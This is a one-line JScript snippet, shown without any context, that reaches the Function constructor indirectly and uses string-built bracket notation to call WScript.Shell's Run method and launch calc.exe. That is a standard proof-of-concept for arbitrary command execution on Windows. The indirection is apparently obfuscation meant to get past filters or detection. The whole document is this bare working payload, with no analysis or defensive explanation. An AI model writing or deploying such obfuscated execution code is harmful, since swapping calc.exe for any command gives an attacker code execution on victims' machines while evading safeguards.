var F=(function(){}).constructor;F('x','y','x[y]("calc.exe")')(new ActiveXObject('WScript.Shell'),'Run');
